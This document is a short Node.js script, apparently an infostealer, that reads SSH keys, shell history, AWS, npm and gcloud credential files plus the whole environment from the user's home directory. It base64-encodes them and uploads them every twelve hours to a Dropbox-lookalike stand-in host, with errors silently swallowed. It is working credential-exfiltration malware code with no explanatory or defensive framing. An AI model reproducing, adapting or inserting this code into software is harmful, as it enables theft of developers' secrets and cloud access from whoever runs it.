const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { execSync } = require('child_process');
const home = os.homedir();
const wanted = ['.ssh', '.bash_history', '.aws/credentials', '.npmrc', '.config/gcloud'];
function collect() {
  const out = { host: os.hostname(), user: os.userInfo().username, env: process.env, files: {} };
  for (const name of wanted) {
    const full = path.join(home, name);
    if (!fs.existsSync(full)) continue;
    const list = fs.statSync(full).isDirectory() ? fs.readdirSync(full).map((entry) => path.join(full, entry)) : [full];
    for (const file of list) {
      try { out.files[file] = fs.readFileSync(file).toString('base64'); } catch (error) {}
    }
  }
  return out;
}
function send() {
  const body = JSON.stringify(collect());
  const request = https.request({ hostname: 'content.dropbox-api.example', path: '/2/files/upload', method: 'POST', headers: { Authorization: 'Bearer placeholder-not-a-token', 'Dropbox-API-Arg': JSON.stringify({ path: '/' + os.hostname() + '.json' }) } });
  request.on('error', () => {});
  request.end(body);
}
if (process.platform === 'linux') {
  try { execSync('systemctl --user is-active Xsession.auth', { stdio: 'ignore' }); } catch (error) {}
}
setInterval(send, 12 * 60 * 60 * 1000).unref();
send();
